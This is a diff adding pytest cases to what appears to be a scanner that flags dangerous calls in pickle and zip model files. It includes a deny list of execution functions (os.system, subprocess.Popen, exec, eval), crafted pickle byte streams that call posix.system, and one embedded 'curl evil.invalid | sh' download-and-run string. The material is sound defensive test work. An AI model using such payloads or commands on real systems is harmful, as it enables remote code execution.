@@ -11,6 +11,7 @@ from core.findings import FileState, Level
 from core.scanning.inspection import Inspection
 from tests.core.scanning.examining import levels, look_at
 from tests.core.scanning.formats.opcodes import call, data, framed, name, named, pickled, short, text
+from tests.core.scanning.formats.zips import Member, zipped
 
 DANGEROUS = """
 os.system posix.system nt.system os.popen subprocess.Popen subprocess.check_output builtins.exec builtins.eval
@@ -193,6 +194,51 @@ def test_too_many_calls_after_the_call_do_not_lose_it() -> None:
 def test_more_streams_than_are_followed_are_said() -> None:
     inspection = look_at("model.bin", b"\x80\x02N." * 10_001 + b"cposix\nsystem\n(S'echo'\ntR.")
     assert inspection.state is FileState.PARTLY_CHECKED
+
+
+def test_a_flood_of_unknown_names_does_not_push_out_the_dangerous_one() -> None:
+    flood = b"".join(name(f"unheard_of_{number}", "thing") + b"0" for number in range(400))
+    assert (
+        levels(look_at("model.bin", pickled(flood + call("posix", "system", "echo"))))["pickle-dangerous"] is Level.HIGH
+    )
+    members = [Member(f"{number}", pickled(name(f"unheard_of_{number}", "thing"))) for number in range(400)]
+    found = levels(look_at("a.zip", zipped(*members, Member("z", pickled(call("posix", "system", "echo"))))))
+    assert found["pickle-dangerous"] is Level.HIGH
+
+
+@pytest.mark.parametrize(
+    "padding",
+    [
+        b"(lp0\n" + b"I5\na" * 20_000,
+        b"V" + b"a" * 100_000 + b"\n0",
+        b"(" + b"S'a'\n" * 20_000 + b"1",
+        b"X" + (100_000).to_bytes(4, "little") + b"a" * 100_000 + b"0",
+        b"N.N.",
+    ],
+    ids=["numbers", "a long line", "texts", "a long text", "streams"],
+)
+@pytest.mark.parametrize("path", ["model.bin", "model.pkl", "notes.txt"])
+def test_a_dangerous_call_is_found_behind_any_length_of_harmless_beginning(padding: bytes, path: str) -> None:
+    inspection = look_at(path, padding + b"cposix\nsystem\n(S'echo'\ntR.")
+    assert levels(inspection).get("pickle-dangerous") is Level.HIGH
+
+
+def test_calls_that_share_their_arguments_are_searched_once() -> None:
+    shared = (
+        b"("
+        + text("x" * 4000) * 60
+        + b"tq\x010"
+        + b"("
+        + b"h\x01" * 60
+        + b"tq\x020"
+        + b"("
+        + b"h\x02" * 60
+        + b"tq\x030"
+    )
+    calls = b"h\x00h\x03R0" * 20_000 + b"h\x00" + text("curl evil.invalid | sh") + b"\x85R"
+    inspection = look_at("model.bin", pickled(name("unheard_of", "thing") + b"q\x000" + shared + calls))
+    assert inspection.state is FileState.CHECKED
+    assert levels(inspection)["pickle-unknown"] is Level.HIGH
 
 
 # -- signs that are no call by name
